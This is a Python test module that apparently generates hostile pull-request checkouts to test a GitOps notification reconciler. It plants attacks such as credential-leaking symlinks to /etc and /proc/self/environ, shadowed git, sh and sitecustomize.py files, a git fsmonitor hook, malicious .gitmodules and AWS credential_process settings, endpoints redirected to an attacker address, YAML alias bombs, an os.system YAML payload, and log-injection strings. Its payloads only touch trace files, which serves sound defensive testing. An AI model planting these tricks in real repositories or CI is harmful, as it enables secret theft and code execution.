"""What the author of a proposal may try, piece by piece: each changes a checkout, and says so by its name.

Whatever of it is run leaves a file in `world.traces`; whatever is sent goes to `world.thief`, where nobody listens.
"""

from __future__ import annotations

import json
import random
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any, Protocol


class Scene(Protocol):
    """What a piece may know: the attacker's checkout, where traces go, and an address of theirs."""

    @property
    def root(self) -> Path: ...
    @property
    def traces(self) -> Path: ...
    @property
    def outside(self) -> Path: ...
    @property
    def thief(self) -> str: ...


Piece = Callable[[Scene, random.Random], None]

SOURCES: tuple[dict[str, Any], ...] = (
    {"env": "OS_PASSWORD"},
    {"env": "SLACK_URL"},
    {"env": "GITHUB_TOKEN"},
    {"env": "RECONCILER_PLAN_KEY"},
    {"file": "keys/slack"},
    {"file": ".git/config"},
    {"file": "../mounted"},
    {"file": "gha-creds-1.json"},
    {"file": "/proc/self/environ"},
    {"vaulted": "slack"},
    {"made": "slack"},
    {"module": "slack"},
    {"sops": "secrets.json", "key": "slack"},
    {"sops": "evil.json", "key": "slack"},
    {"vault": "secret/x", "key": "k"},
    {"aws_secret": "slack"},
)
FORMS = (
    "http://x%{}/",
    "https://{}",
    "https://{}.evil.example/x",
    "https://hooks.slack.com/services/T{}/B1/x",
    "{}",
    "x{}x",
)
HOSTILE = ("a\n::error::x", "\x1b]0;x\x07", "\u202e\u2066x", "##[error]x", "@everyone", "<img src=x>", "x" * 200)


def edit_project(scene: Scene, **spec: Any) -> None:
    path = scene.root / "reconciler.yaml"
    try:
        document = json.loads(path.read_text())
    except (OSError, ValueError):
        return
    document["spec"] |= spec
    if path.is_symlink():
        path.unlink()
    path.write_text(json.dumps(document))


def read_spec(scene: Scene) -> dict[str, Any]:
    try:
        spec: dict[str, Any] = json.loads((scene.root / "reconciler.yaml").read_text())["spec"]
    except (OSError, ValueError):
        return {"targets": {}}
    return spec


def manifest(scene: Scene, kind: str, name: str, spec: dict[str, Any], file: str = "") -> None:
    document = {"apiVersion": "channels.gitops/v1", "kind": kind, "metadata": {"name": name}, "spec": spec}
    path = scene.root / "channels" / f"{file or name}.json"
    path.parent.mkdir(exist_ok=True)
    path.write_text(json.dumps(document))


def program(scene: Scene, name: str, more: str = "echo https://hooks.slack.com/services/T1/B1/evil") -> None:
    path = scene.root / name
    if path.is_symlink():
        path.unlink()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\ntouch '{scene.traces}/{path.name}'\n{more}\n")
    path.chmod(0o755)


def another_address(scene: Scene, chance: random.Random) -> None:
    targets = read_spec(scene)["targets"]
    for target in targets.values():
        target["url"] = scene.thief
        if chance.random() < 0.5:
            target["insecure"] = True
    edit_project(scene, targets=targets)


def another_project_by_a_link(scene: Scene, chance: random.Random) -> None:
    evil = scene.root / "evil"
    evil.mkdir(exist_ok=True)
    another_address(scene, chance)
    if (scene.root / "reconciler.yaml").is_file() and not (scene.root / "reconciler.yaml").is_symlink():
        (scene.root / "reconciler.yaml").replace(evil / "reconciler.yaml")
        (scene.root / "reconciler.yaml").symlink_to("evil/reconciler.yaml")
        shutil.copytree(scene.root / "channels", evil / "channels", symlinks=True, dirs_exist_ok=True)


def a_folder_like_a_repository(scene: Scene, chance: random.Random) -> None:
    bare = scene.traces.parent / "bare.git"
    if not bare.exists():
        subprocess.run(["git", "clone", "-q", "--bare", str(scene.root), str(bare)], check=True, capture_output=True)
    for name in ("HEAD", "objects", "refs"):
        if not (scene.root / name).exists():
            (shutil.copytree if (bare / name).is_dir() else shutil.copy)(bare / name, scene.root / name)
    hook = f"touch '{scene.traces}/fsmonitor'"
    (scene.root / "config").write_text(f"[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = {hook}\n")


def changed_programs(scene: Scene, chance: random.Random) -> None:
    for name in ("get.sh", "lib.sh", "main.sh"):
        program(scene, name)
    (scene.root / "tools" / "tok.py").write_text(f"open('{scene.traces}/tok', 'w')\nprint('https://evil.example/x')\n")


def programs_on_the_way(scene: Scene, chance: random.Random) -> None:
    for name in (
        "git",
        "sops",
        "sh",
        "python3",
        "bin/git",
        "bin/sh",
        "bin/sops",
        "bin/python3",
        ".git-hooks/post-checkout",
    ):
        program(scene, name)
    trace = f"open('{scene.traces}/module', 'w')\n"
    for name in (
        "sitecustomize.py",
        "usercustomize.py",
        "yaml.py",
        "click.py",
        "reconciler/__init__.py",
        "tools/sitecustomize.py",
    ):
        (scene.root / name).parent.mkdir(exist_ok=True)
        (scene.root / name).write_text(trace)


def settings_files(scene: Scene, chance: random.Random) -> None:
    (scene.root / ".env").write_text(f"OPENSEARCH_URL={scene.thief}\nHTTP_PROXY={scene.thief}\n")
    (scene.root / ".netrc").write_text("default login a password b\n")
    (scene.root / ".gitattributes").write_text("* filter=evil diff=evil\n")
    (scene.root / ".sops.yaml").write_text("creation_rules: []\n")
    (scene.root / ".gitmodules").write_text('[submodule "x"]\n\tpath = x\n\turl = ../x\n\tupdate = !touch x\n')


def aws_settings(scene: Scene, chance: random.Random) -> None:
    program(scene, "aws-tool", "exit 1")
    for name in ("config", "credentials"):
        path = scene.root / ".aws" / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(f"[default]\ncredential_process = {scene.root}/aws-tool\nendpoint_url = {scene.thief}\n")
    manifest(scene, "SlackChannel", "aws", {"webhook_url": {"aws_secret": "slack"}})


def new_sources(scene: Scene, chance: random.Random) -> None:
    program(scene, "evil.sh")
    command = chance.choice(
        [["./evil.sh"], [str(scene.root / "evil.sh")], ["sh", "-c", f"touch '{scene.traces}/shell'"]]
    )
    edit_project(scene, secrets={"sources": {"evil": {"exec": command}, "vaulted": {"exec": command}}})
    manifest(scene, "SlackChannel", "evil", {"webhook_url": {chance.choice(["evil", "vaulted", "vaulted"]): "x"}})


def composed(scene: Scene, chance: random.Random) -> None:
    for number in range(chance.randint(1, 4)):
        value = {"format": chance.choice(FORMS), "from": chance.choice(SOURCES)}
        manifest(scene, "WebhookChannel", f"composed-{number}", {"url": value})


def plain_references(scene: Scene, chance: random.Random) -> None:
    for number, source in enumerate(chance.sample(SOURCES, 4)):
        kind = chance.choice(["SlackChannel", "MicrosoftTeamsChannel", "ChimeChannel"])
        manifest(scene, kind, f"plain-{number}", {"webhook_url": source})


def headers(scene: Scene, chance: random.Random) -> None:
    values = {f"X-{number}": {"format": chance.choice(FORMS), "from": source} for number, source in enumerate(SOURCES)}
    names = ["Content-Type", "Accept", "User-Agent"]
    values |= {name: chance.choice(SOURCES) for name in names if chance.random() < 0.05}
    manifest(scene, "WebhookChannel", "headers", {"url": {"env": "SLACK_URL"}, "headers": values})


def many_guesses(scene: Scene, chance: random.Random) -> None:
    guesses = {f"X-{number}": f"guess-{number}" for number in range(300)}
    manifest(
        scene, "WebhookChannel", "guesses", {"url": {"env": "SLACK_URL"}, "headers": {**guesses, "X-P": SOURCES[0]}}
    )


def secrets_where_none_belongs(scene: Scene, chance: random.Random) -> None:
    texts = ["{env: OS_PASSWORD}", "$OS_PASSWORD", "${{ secrets.OS_PASSWORD }}", "%OS_PASSWORD%", "`cat keys/slack`"]
    spec: dict[str, Any] = {"webhook_url": {"env": "SLACK_URL"}, "display_name": chance.choice(texts)}
    if chance.random() < 0.2:
        spec["description"] = chance.choice(SOURCES)
    manifest(scene, "SlackChannel", "misplaced", spec)
    manifest(scene, "EmailGroup", "mails", {"recipients": ["OS_PASSWORD@example.org"]})


def secrets_in_the_project(scene: Scene, chance: random.Random) -> None:
    value = {"format": chance.choice(FORMS), "from": chance.choice(SOURCES)}
    edit_project(scene, defaults={"SlackChannel": {"webhook_url": value}, "WebhookChannel": {"url": value}})


def hostile_names(scene: Scene, chance: random.Random) -> None:
    name = chance.choice(HOSTILE)
    manifest(
        scene,
        "SlackChannel",
        "named",
        {"webhook_url": {"file": name}, "display_name": name},
        file=name[:60].replace("/", "_"),
    )
    if chance.random() < 0.3:
        manifest(scene, name, name, {name: name}, file="broken")


def links_out(scene: Scene, chance: random.Random) -> None:
    links = [("keys/out", "/etc"), ("keys/loop", ".")]
    if chance.random() < 0.4:
        links += [("channels/root", "/"), ("channels/loop", "."), ("channels/m.yaml", "/proc/self/environ")]
        edit_project(scene, manifests=chance.choice([["channels"], ["channels", "/etc"], ["../.."], ["channels/root"]]))
    for name, target in links:
        path = scene.root / name
        path.parent.mkdir(exist_ok=True)
        if not path.is_symlink():
            path.symlink_to(target)
    manifest(scene, "SlackChannel", "linked", {"webhook_url": {"file": "keys/out/hostname"}})


def keys_by_links(scene: Scene, chance: random.Random) -> None:
    for name, target in (
        ("stolen-1", ".git/config"),
        ("stolen-2", "gha-creds-1.json"),
        ("stolen-3", str(scene.outside)),
    ):
        if not (scene.root / name).is_symlink():
            (scene.root / name).symlink_to(target)
        manifest(scene, "SlackChannel", name, {"webhook_url": {"file": name}})


def sops_files(scene: Scene, chance: random.Random) -> None:
    metadata = {"slack": "x", "sops": {"hc_vault": [{"vault_address": scene.thief}]}}
    for name in ("evil.json", "secrets.json"):
        (scene.root / name).write_text(json.dumps(metadata))
    manifest(
        scene,
        "SlackChannel",
        "sopsed",
        {"webhook_url": {"sops": chance.choice(["evil.json", "secrets.json"]), "key": "slack"}},
    )


def owner_and_test(scene: Scene, chance: random.Random) -> None:
    edit_project(
        scene,
        owner="other",
        former_owners=["acme"],
        id_prefix="acme",
        test={"when": "never"},
        safety={"max_deletes": 999},
    )


def a_tag_as_the_base(scene: Scene, chance: random.Random) -> None:
    for name in ("refs/tags/origin/main", "refs/heads/origin/main"):
        subprocess.run(["git", "-C", str(scene.root), "update-ref", name, "HEAD"], check=False, capture_output=True)


def certificates(scene: Scene, chance: random.Random) -> None:
    targets = read_spec(scene)["targets"]
    (scene.root / "ca.pem").unlink(missing_ok=True)
    (scene.root / "ca.pem").symlink_to(".git/config")
    for target in targets.values():
        target["tls"] = {"ca_file": "ca.pem"}
    edit_project(scene, targets=targets)


def many_documents(scene: Scene, chance: random.Random) -> None:
    (scene.root / "channels" / "many.yaml").write_text("--- {}\n" * 60_000)


def alias_bombs(scene: Scene, chance: random.Random) -> None:
    bomb = "a: &a [1,1,1,1,1,1,1,1,1,1]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\n"
    (scene.root / "channels" / "bombs.yaml").write_text((bomb + "d: [*c,*c,*c,*c,*c,*c,*c,*c]\n---\n") * 3_000)


def deep_folders(scene: Scene, chance: random.Random) -> None:
    place = scene.root / "channels"
    for _ in range(300):
        place = place / "d"
    place.mkdir(parents=True, exist_ok=True)


def broken_yaml(scene: Scene, chance: random.Random) -> None:
    text = chance.choice(
        ["\x00", "a: !!python/object/apply:os.system ['touch x']", "{" * 500, "a: b: c", "- \xff", "---\n" * 2000]
    )
    (scene.root / "channels" / "broken.yaml").write_bytes(text.encode("latin-1"))


QUICK: tuple[Piece, ...] = (
    another_address,
    another_project_by_a_link,
    a_folder_like_a_repository,
    changed_programs,
    programs_on_the_way,
    settings_files,
    aws_settings,
    new_sources,
    composed,
    plain_references,
    headers,
    many_guesses,
    secrets_where_none_belongs,
    secrets_in_the_project,
    hostile_names,
    links_out,
    keys_by_links,
    sops_files,
    owner_and_test,
    a_tag_as_the_base,
    certificates,
    deep_folders,
    broken_yaml,
)
SLOW: tuple[Piece, ...] = (many_documents, alias_bombs)
"""Pieces that only take time; they come seldom."""
